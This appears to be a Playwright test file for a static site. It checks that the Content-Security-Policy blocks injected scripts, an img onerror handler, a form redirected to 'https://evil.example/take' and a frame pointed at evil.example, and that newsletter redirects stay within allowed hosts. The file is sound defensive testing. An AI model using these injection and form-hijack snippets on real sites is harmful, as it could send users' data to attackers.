"""What the Content-Security-Policy forbids, and that it leaves in peace what our pages do."""

from __future__ import annotations

import re

from playwright.sync_api import Page, Route, expect

from tests.browser.conftest import Enter, Open, host
from tests.sites import Build, Built, post

KIT = {"provider": "kit", "form_id": "1"}
FILM = "posts/a-ten-minute-film-watched-properly/"


def answered(page: Page) -> list[str]:
    """Answer for all other hosts; the list holds whom the browser called."""
    called: list[str] = []

    def answer(route: Route) -> None:
        called.append(route.request.url)
        route.fulfill(content_type="text/html", body="<!doctype html><title>x</title><h1>Somebody else</h1>")

    page.route(re.compile("^https:"), answer)
    return called


def test_a_script_that_was_smuggled_in_does_not_run(open_page: Open, breaches: list[str]) -> None:
    page = open_page()
    page.evaluate(
        """() => {
          const script = document.createElement("script");
          script.textContent = "window.smuggled = true";
          document.body.append(script);
          document.body.insertAdjacentHTML("beforeend", `<img src="/icon" onerror="window.smuggled = true">`);
        }"""
    )
    page.wait_for_load_state("networkidle")
    assert page.evaluate("window.smuggled") is None
    assert "script-src" in "".join(breaches)
    breaches.clear()


def test_a_form_that_was_turned_to_somebody_else_is_not_sent(open_page: Open, breaches: list[str]) -> None:
    page = open_page("search/")
    called = answered(page)
    page.evaluate(
        """() => {
          const form = document.createElement("form");
          form.action = "https://evil.example/take";
          form.method = "post";
          document.body.append(form);
          form.submit();
        }"""
    )
    page.wait_for_timeout(300)
    assert called == []
    assert page.url.endswith("/search/")
    assert "form-action" in "".join(breaches)
    breaches.clear()


def test_a_video_plays_in_its_frame_and_nobody_else_has_one(open_page: Open, breaches: list[str]) -> None:
    page = open_page(FILM)
    called = answered(page)
    page.locator(".embed a").click()
    expect(page.frame_locator(".embed iframe").locator("h1")).to_have_text("Somebody else")
    assert breaches == []
    page.evaluate("document.querySelector('iframe').src = 'https://evil.example/'")
    page.wait_for_timeout(300)
    assert not [url for url in called if "evil" in url]
    assert "frame-src" in "".join(breaches)
    breaches.clear()


def test_an_older_address_leads_on(enter: Enter, build_site: Build) -> None:
    built = build_site({"posts/a.md": post("New place", aliases="[/old/]")}, production=True)
    assert built.code == 0, built.errors
    with host(built.out) as address:
        page = enter().new_page()
        page.goto(f"{address}/old/")
        expect(page.locator("h1")).to_have_text("New place")


def test_a_feed_has_its_styles(open_page: Open) -> None:
    page = open_page("feeds/all.atom.xml")
    rules = "[...document.styleSheets].map((sheet) => sheet.cssRules.length)"
    assert page.evaluate(rules) and min(page.evaluate(rules)) > 3


def test_sound_of_another_host_is_heard(enter: Enter, build_site: Build) -> None:
    sound = "https://sound.example/a.mp3"
    built = build_site({"posts/a.md": post(body=f'<audio src="{sound}" controls></audio>')}, production=True)
    assert built.code == 0, built.errors
    with host(built.out) as address:
        page = enter().new_page()
        called = answered(page)
        page.goto(f"{address}/posts/a/")
        assert called == []
        with page.expect_request(sound):
            page.locator("audio").evaluate("node => { node.play().catch(() => 0) }")


class TestSendingOn:
    """A browser holds `form-action` against what the provider's answer leads to as well."""

    @staticmethod
    def called(enter: Enter, built: Built) -> list[str]:
        """Sign up without scripts, at a provider that sends on to another site; whom the browser called."""
        assert built.code == 0, built.errors
        with host(built.out) as address:
            page = enter(java_script_enabled=False).new_page()
            called: list[str] = []
            page.on("request", lambda request: called.append(request.url))
            onward = {"Location": "https://thanks.example/"}
            page.route("https://app.kit.com/**", lambda route: route.fulfill(status=302, headers=onward))
            page.goto(f"{address}/posts/a/")
            page.get_by_label("Your e-mail address").fill("ann@reader.example")
            page.get_by_role("main").get_by_role("button", name="Subscribe").click()
            page.wait_for_timeout(300)
        return called

    def test_a_page_that_the_settings_name_is_reached(self, enter: Enter, build_site: Build) -> None:
        newsletter = {**KIT, "leads_to": ["https://thanks.example/a/page"]}
        built = build_site({"posts/a.md": post()}, production=True, NEWSLETTER=newsletter)
        assert "https://thanks.example/" in self.called(enter, built)

    def test_another_page_is_not(self, enter: Enter, build_site: Build, breaches: list[str]) -> None:
        built = build_site({"posts/a.md": post()}, production=True, NEWSLETTER=KIT)
        assert not [url for url in self.called(enter, built) if "thanks" in url]
        assert "form-action" in "".join(breaches)
        breaches.clear()
